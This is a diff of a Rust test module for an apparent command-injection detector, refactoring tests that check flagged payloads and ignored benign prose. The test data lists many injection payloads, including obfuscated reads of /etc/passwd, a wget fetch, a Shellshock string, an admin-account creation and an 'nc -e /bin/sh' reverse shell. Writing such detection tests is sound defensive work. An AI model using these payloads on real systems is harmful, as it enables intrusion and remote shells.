@@ -773,7 +773,7 @@ fn class_matches(set: &[u8], c: u8) -> bool {
 #[cfg(test)]
 mod tests {
     use super::*;
-    use crate::detect::testing::{families, hits};
+    use crate::detect::testing::{flags, hits, silent};
     use crate::extract::Kind;
 
     #[test]
@@ -795,52 +795,50 @@ mod tests {
 
     #[test]
     fn detects_chained_and_obfuscated_commands() {
-        for p in [
-            "127.0.0.1; cat /etc/passwd",
-            "x|id",
-            "foo && whoami",
-            "a`uname -a`",
-            "$(wget http://x/y)",
-            "ti''me sh -c whoami",
-            "c'a't /e't'c/pass'wd'",
-            ";c\\at${IFS}/etc/passwd",
-            "/etc/[!q]asswd",
-            ";/bin/ca? /et*/passwd",
-            "{id,}",
-            "; ls -la",
-            "| dir c:\\",
-            "& net user admin /add",
-            "x; powershell -enc AAAA",
-            "() { :; }; /bin/bash -c id",
-            "1;sleep${IFS}5",
-            "a\nnc -e /bin/sh 10.0.0.1 4444",
-        ] {
-            assert!(families(p).contains(&"rce"), "{p}");
-        }
+        flags(
+            "rce",
+            &[
+                "127.0.0.1; cat /etc/passwd",
+                "x|id",
+                "foo && whoami",
+                "a`uname -a`",
+                "$(wget http://x/y)",
+                "ti''me sh -c whoami",
+                "c'a't /e't'c/pass'wd'",
+                ";c\\at${IFS}/etc/passwd",
+                "/etc/[!q]asswd",
+                ";/bin/ca? /et*/passwd",
+                "{id,}",
+                "; ls -la",
+                "| dir c:\\",
+                "& net user admin /add",
+                "x; powershell -enc AAAA",
+                "() { :; }; /bin/bash -c id",
+                "1;sleep${IFS}5",
+                "a\nnc -e /bin/sh 10.0.0.1 4444",
+            ],
+        );
     }
 
     #[test]
     fn leaves_prose_alone() {
-        for p in [
-            "black & white; more later",
-            "Tom & Jerry; cat lovers welcome",
-            "Q&A | find out more",
-            "Dear team,\nfind attached the report.\nYes, date TBD",
-            "rock'n'roll (time of my life)",
-            "O'Brien & Sons; echo chamber",
-            "C:\\Users\\me\\Documents\\report.docx",
-            "Meet at 10:00; head office",
-            "price: $5 (approx)",
-            "ls",
-            "Vicolo Gaito, 50, Cavenago D'Adda (LO), 00100 Roma (RM)",
-            "Piazza Duomo 1 (MI) (PS)",
-        ] {
-            assert!(
-                !families(p).contains(&"rce"),
-                "{p}: {:?}",
-                hits(Kind::Value, "query:q", p, 1)
-            );
-        }
+        silent(
+            "rce",
+            &[
+                "black & white; more later",
+                "Tom & Jerry; cat lovers welcome",
+                "Q&A | find out more",
+                "Dear team,\nfind attached the report.\nYes, date TBD",
+                "rock'n'roll (time of my life)",
+                "O'Brien & Sons; echo chamber",
+                "C:\\Users\\me\\Documents\\report.docx",
+                "Meet at 10:00; head office",
+                "price: $5 (approx)",
+                "ls",
+                "Vicolo Gaito, 50, Cavenago D'Adda (LO), 00100 Roma (RM)",
+                "Piazza Duomo 1 (MI) (PS)",
+            ],
+        );
     }
 
     #[test]
